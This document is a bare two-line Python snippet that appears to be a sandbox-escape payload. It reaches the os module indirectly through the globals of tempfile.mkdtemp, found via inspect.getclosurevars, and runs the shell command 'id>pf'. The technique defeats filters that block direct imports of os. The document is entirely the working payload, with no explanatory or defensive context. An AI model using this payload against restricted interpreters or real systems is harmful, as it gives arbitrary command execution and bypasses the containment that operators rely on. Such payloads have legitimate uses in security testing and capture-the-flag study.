import inspect, tempfile
inspect.getclosurevars(tempfile.mkdtemp).globals["_os"].system("id>pf")
